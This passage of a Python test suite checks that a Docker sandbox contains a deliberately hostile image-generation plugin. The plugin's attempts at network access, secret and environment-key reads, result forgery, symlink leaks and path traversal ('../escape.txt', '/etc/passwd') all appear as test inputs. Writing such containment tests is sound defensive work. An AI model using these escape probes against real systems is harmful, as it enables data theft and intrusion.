                hostile, tmp_path / f"run{i}", f"hostile:observe tcp={bridge}:{server.port}"
            )
            for i in range(2)
        ]
        time.sleep(0.3)
        assert server.accepted == 0
    finally:
        server.close()
    first, second = (
        json.loads((tmp_path / f"run{i}" / "hostile.observations.json").read_text())
        for i in range(2)
    )
    seen, hook = first["import"], first["hook"]
    assert seen["uid"] == 65534
    for key in ("write_root", "write_plugins_dir", "write_site_packages"):  # new files
        assert seen[key]["ok"] is False and seen[key]["errname"] == "EROFS", (key, seen[key])
    for key in ("write_own_code", "write_worker", "write_job_root"):  # existing files, /job
        assert seen[key]["ok"] is False and seen[key]["errname"] in ("EROFS", "EACCES"), seen[key]
    assert seen["plugin_mounts"] == {"/plugins/hostile": seen["plugin_mounts"]["/plugins/hostile"]}
    assert "ro" in seen["plugin_mounts"]["/plugins/hostile"]
    assert seen["plugins_visible"] == ["hostile"]  # wildcards was added but not requested
    assert seen["tcp_public"]["errname"] == "ENETUNREACH"
    assert hook["tcp_host"]["errname"] == "ENETUNREACH"
    assert seen["dns"]["ok"] is False
    assert (
        "CIVITAI_API_KEY" not in seen["env"] and "CIVITAI_API_KEY" not in seen["proc1_environ_keys"]
    )
    allowed = {*BASE_ENVIRONMENT, "PATH", "HOSTNAME", "OMP_NUM_THREADS", "MKL_NUM_THREADS"}
    assert set(seen["env"]) <= allowed, set(seen["env"]) - allowed
    assert seen["docker_sock"] == [] and seen["secret_files"] == []
    assert hook["nonce_in_ctx"] is False
    # a fresh container per job: nothing the first job left in /tmp survives
    assert first["import"]["write_tmp"]["ok"] and second["import"]["persist_marker_before"] is False
    for r in results:
        assert "forged" not in r.result.data  # its print() went to the logs, not the protocol
        assert r.result.data["prompt"].endswith("[hostile]")
    assert any('"forged": true' in line or '"forged":true' in line for line in results[0].log_tail)
    [check] = hostile.verify_plugins(["hostile"])
    assert check.ok  # the stored copy is untouched


@pytest.mark.docker
@pytest.mark.parametrize(
    ("mode", "error", "message"),
    [
        ("forge", WorkerProtocolError, "second result"),
        ("symlink", HostileOutputError, "out/leak.png"),
        ("traversal", JobFailedError, "'hostile' extra_outputs: output name '../escape.txt'"),
        ("crash", JobFailedError, "'hostile' prompt_transform: RuntimeError: boom"),
        ("exit", JobFailedError, "'hostile' prompt_transform: SystemExit: 3"),
        ("bad_return", JobFailedError, "must return (prompt, negative)"),
    ],
)
def test_hostile_plugin_misbehaviour_fails_only_its_job(
    hostile: SandboxService, tmp_path: Path, mode: str, error: type[Exception], message: str
) -> None:
    out = tmp_path / "out"
    with pytest.raises(error) as info:
        run_hostile(hostile, out, f"hostile:{mode}")
    text = str(info.value) + " " + " ".join(str(r) for r in getattr(info.value, "rejected", []))
    assert message in text
    if isinstance(info.value, JobFailedError):  # the worker's own reason, never the OOM hint
        assert info.value.oom_killed is False and info.value.worker_error_code
        assert describe(info.value).hint == (
            f"The worker stopped the job with its own error ({info.value.worker_error_code}); "
            "see the message."
        )
    assert not out.exists() or list(out.iterdir()) == []
    assert _containers(hostile.client, info.value.job_id) == []  # type: ignore[attr-defined]


@pytest.mark.docker
def test_trusted_plugins_share_a_warm_worker(real_service: SandboxService, tmp_path: Path) -> None:
    real_service.add_plugin(EXAMPLES / "wildcards", trust=True)
    real_service.reuse_workers = True
    params = {"prompt": "a __color__ __animal__", "seed": 4}
    a = real_service.run(
        "plugin_demo", params, tmp_path / "a", plugins=["wildcards"], limits=SMALL, gpus="none"
    )
    b = real_service.run(
        "plugin_demo", params, tmp_path / "b", plugins=["wildcards"], limits=SMALL, gpus="none"
    )
    assert a.result.data["prompt"] == b.result.data["prompt"]
    [worker] = real_service._warm.values()
    assert worker.jobs_done == 2
    # tampering between jobs: refused, and the worker is recycled
    p = real_service.get_plugin("wildcards")
    (p.path / "wildcards").chmod(0o755)
    (p.path / "wildcards" / "animal.txt").chmod(0o644)
    (p.path / "wildcards" / "animal.txt").write_text("dragon\n")
    with pytest.raises(PluginTamperedError, match="wildcards/animal.txt"):
        real_service.run(
            "plugin_demo", params, tmp_path / "c", plugins=["wildcards"], limits=SMALL, gpus="none"
        )
    assert not worker.running


@pytest.mark.docker
@pytest.mark.slow
def test_plugin_requirement_wheels_are_in_the_rebuilt_image(
    engine: Engine, tmp_path: Path, docker_client: Any, sandbox_image: Any
) -> None:
    """A plugin with a new requirement makes the image stale; a rebuild installs its wheel in
    its own directory, which only jobs naming that plugin get on ``sys.path``.

    The wheel is built here and served from a local find-links directory (no index), so the
    test works offline. The rebuilt image gets its own tag and stays cached for later runs.
    """
    from tests.sandbox.conftest import CACHE_DIR

    links = REPO / ".cache" / "test-wheels"
    shutil.rmtree(links, ignore_errors=True)
    make_wheel(links, "tinyplug-dep", "1.0", "VALUE = 'from a locked wheel'\n")
    record_path = tmp_path / "image.json"
    save_record(sandbox_image, record_path)
    svc = catalog_service(
        engine,
        plugins_root=tmp_path / "plugins",
        record_path=record_path,
        cache_dir=CACHE_DIR,
        client=docker_client,
    )
    code = (
        "import tinyplug_dep\n"
        "def prompt_transform(p, n, ctx):\n    return p + ' ' + tinyplug_dep.VALUE, n\n"
    )
    needsdep = svc.add_plugin(
        write_plugin(tmp_path / "src", "needsdep", requirements='["tinyplug-dep==1.0"]', code=code)
    ).plugin
    svc.add_plugin(EXAMPLES / "wildcards")  # a plugin without requirements
    status = svc.image_status()
    assert status.stale and status.missing_from_image == ["tinyplug-dep==1.0"]
    with pytest.raises(ImageStaleError):
        svc.run(
            "plugin_demo",
            {"prompt": "x"},
            tmp_path / "o",
            plugins=["needsdep"],
            limits=SMALL,
            gpus="none",
        )
    record = svc.build(offline=True, find_links=[links], no_index=True)
    assert record.plugin_requirements == ["tinyplug-dep==1.0"]
    assert record.plugin_dep_sets == {needsdep.deps_key: ["tinyplug-dep==1.0"]}
    assert "-p" + (record.plugin_requirements_sha256 or "")[:12] + "-i" in record.tag
    assert record.lock_sha256 != sandbox_image.lock_sha256
    assert not svc.image_status().stale
    result = svc.run(
        "plugin_demo",
        {"prompt": "x"},
        tmp_path / "o",
        plugins=["needsdep"],
        limits=SMALL,
        gpus="none",
    )
    assert result.result.data["prompt"] == "x from a locked wheel"

    deps_dir = f"/opt/plugin-deps/{needsdep.deps_key}"
    probes = [{"name": "sys_path"}, {"name": "import_module", "args": {"name": "tinyplug_dep"}}]
    for plugins in ([], ["wildcards"], ["needsdep"]):
        run = svc.run(
            "probe",
            {"probes": probes},
            tmp_path / f"probe-{'-'.join(plugins)}",
            plugins=plugins,
            limits=SMALL,
            gpus="none",
        )
        path, imported = run.result.data["probes"]
        if plugins == ["needsdep"]:  # positive control: its plugin's job imports it
            assert path["sys_path"][-1] == deps_dir
            assert imported == {
                "name": "import_module",
                "ok": True,
                "file": f"{deps_dir}/tinyplug_dep.py",
            }
        else:  # nothing a plugin brought is on the path of a job that does not name it
            assert not [e for e in path["sys_path"] if e.startswith("/opt/plugin-deps")], path
            assert imported == {
                "name": "import_module",
                "ok": False,
                "error": "ModuleNotFoundError",
            }


def test_the_plugin_api_agrees_with_the_protocol(tmp_path: Path) -> None:
    from sandbox.protocol import PLUGIN_HOOKS
    from sandbox.worker import plugin_api

    assert plugin_api.HOOKS == PLUGIN_HOOKS
    ctx = plugin_api.PluginContext(plugin_name="p", plugin_dir=tmp_path, job_id="j", kind="echo")
    for bad in ("../x", "/etc/passwd", "a/../../b", ""):
        with pytest.raises(plugin_api.PluginAPIError):
            ctx.resolve(bad)
    assert ctx.resolve("a/b.txt") == tmp_path / "a" / "b.txt"
    assert (
        ctx.rng().random()
        == plugin_api.PluginContext(plugin_name="p", plugin_dir=tmp_path, job_id="other", kind="x")
        .rng()
        .random()
    )  # depends on seed, index and plugin name only
